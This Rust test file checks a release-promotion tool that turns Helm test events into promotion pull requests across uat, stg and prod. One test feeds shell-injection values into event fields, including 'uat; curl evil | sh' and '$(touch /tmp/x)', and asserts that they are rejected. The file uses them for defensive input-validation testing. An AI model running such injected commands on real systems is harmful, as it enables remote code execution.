//! Carrying a release on, as the promotion workflow does it.

use serde_json::{Value, json};

use crate::world::World;

fn tested(environment: &str, revision: &str) -> Value {
    json!({
        "involvedObject": {"kind": "HelmRelease", "namespace": "app-podinfo", "name": "podinfo"},
        "severity": "info", "reason": "TestSucceeded",
        "message": "Helm test succeeded for release app-podinfo/podinfo.v9 with chart podinfo@1.1.7: 3 test hooks completed successfully",
        "metadata": {"env": environment, "revision": revision},
    })
}

/// What promotes 1.1.7 by hand.
fn by_hand<'a>(from: &'a str, to: &'a str) -> [&'a str; 7] {
    ["promote", "--from", from, "--to", to, "--version", "1.1.7"]
}

#[tokio::test]
async fn the_event_of_a_tested_release_brings_the_open_promotion_up_to_date_once() {
    let world = World::start().await;
    let waiting = world
        .lab
        .forge()
        .open_promotion("stg")
        .await
        .unwrap()
        .unwrap();
    let event = world.event(&tested("uat", "1.1.8+0cc9a8446c95"));
    let said = world.weft("bot", &["promote", "--event", &event]).await;
    assert_eq!(said.code, 0, "{}", said.err);
    let number = waiting.number;
    let sentence = format!("weft: #{number} now promotes 1.1.8 into stg; 1.1.7 is superseded\n");
    assert_eq!(said.out, sentence);
    let pull = world.lab.forge().pull(number).await.unwrap();
    assert!(pull.title.ends_with("in stg to 1.1.8"));
    assert_ne!(pull.head, waiting.head);
    let again = world.weft("bot", &["promote", "--event", &event]).await;
    assert_eq!(
        again.out,
        format!("weft: #{number} promotes 1.1.8 already\n")
    );
    let still = world.lab.forge().pull(number).await.unwrap();
    assert_eq!(still.head, pull.head);
}

#[tokio::test]
async fn a_person_promotes_by_hand_what_was_lost() {
    let world = World::start().await;
    let order = by_hand("stg", "prod");
    let said = world.weft("bot", &order).await;
    assert_eq!(said.code, 0, "{}", said.err);
    let opened = world
        .lab
        .forge()
        .open_promotion("prod")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        said.out,
        format!("weft: #{} would promote 1.1.7 into prod\n", opened.number)
    );
    let text = world
        .lab
        .forge()
        .file(
            "promotion-app-podinfo-podinfo-prod",
            "environments/prod/podinfo-helmrelease.yaml",
        )
        .await
        .unwrap();
    assert!(text.contains("      version: 1.1.7\n"), "{text}");
}

#[tokio::test]
async fn hostile_and_useless_events_change_nothing() {
    let world = World::start().await;
    let before = world.lab.forge().pulls().await.unwrap();
    for (payload, words) in [
        (
            tested("uat; curl evil | sh", "1.1.8"),
            "is no environment of this lane",
        ),
        (
            tested("uat", "1.1.8\"; exit 0; #"),
            "is not a chart version",
        ),
        (tested("uat", "$(touch /tmp/x)"), "is not a chart version"),
        (tested("prod", "1.1.8"), "nothing follows prod"),
        (tested("uat", "1.0.0"), "newer than 1.0.0"),
        (json!({"reason": "TestSucceeded"}), "another object"),
    ] {
        let event = world.event(&payload);
        let said = world.weft("bot", &["promote", "--event", &event]).await;
        assert_eq!(said.code, 0, "{}", said.err);
        assert!(said.out.contains(words), "{words}\n{}", said.out);
        assert_eq!(said.out.lines().count(), 1, "{}", said.out);
    }
    let event = world.scratch("event.json");
    std::fs::write(&event, "[]").unwrap();
    let said = world
        .weft("bot", &["promote", "--event", &event.display().to_string()])
        .await;
    assert_eq!(said.code, 2);
    assert!(said.err.contains("no repository_dispatch"), "{}", said.err);
    let after = world.lab.forge().pulls().await.unwrap();
    assert_eq!(after.len(), before.len());
}

#[tokio::test]
async fn without_rights_or_a_wish_it_ends_with_a_sentence() {
    let world = World::start().await;
    let order = by_hand("stg", "prod");
    let said = world.weft("kim", &order).await;
    assert_eq!(said.code, 1, "{}", said.out);
    assert!(
        said.err.contains("creating the branch: GitHub"),
        "{}",
        said.err
    );
    let said = world.weft("nobody", &order).await;
    assert!(said.err.contains("set GITHUB_TOKEN"), "{}", said.err);
    let said = world.weft("bot", &["promote"]).await;
    assert!(said.err.contains("what is to be promoted?"), "{}", said.err);
    let backwards = by_hand("prod", "stg");
    let said = world.weft("bot", &backwards).await;
    assert_eq!(said.code, 2);
    assert!(
        said.err.contains("stg does not follow prod"),
        "{}",
        said.err
    );
}

#[tokio::test]
async fn a_promotion_goes_into_the_branch_that_is_named() {
    let world = World::start().await;
    let order = by_hand("stg", "prod");
    let named = [&order[..], &["--branch", "trunk"]].concat();
    let said = world.weft("bot", &named).await;
    assert_eq!(said.code, 2, "{}", said.out);
    let why = "the repository has no branch trunk";
    assert!(said.err.contains(why), "{}", said.err);
    world.switch_to_trunk().await;
    let said = world.weft("bot", &named).await;
    assert_eq!(said.code, 0, "{}", said.err);
    let (_, rest) = said.out.split_once('#').unwrap();
    let number = rest.split(' ').next().unwrap().parse().unwrap();
    assert_eq!(world.base_of(number).await, "trunk");
}
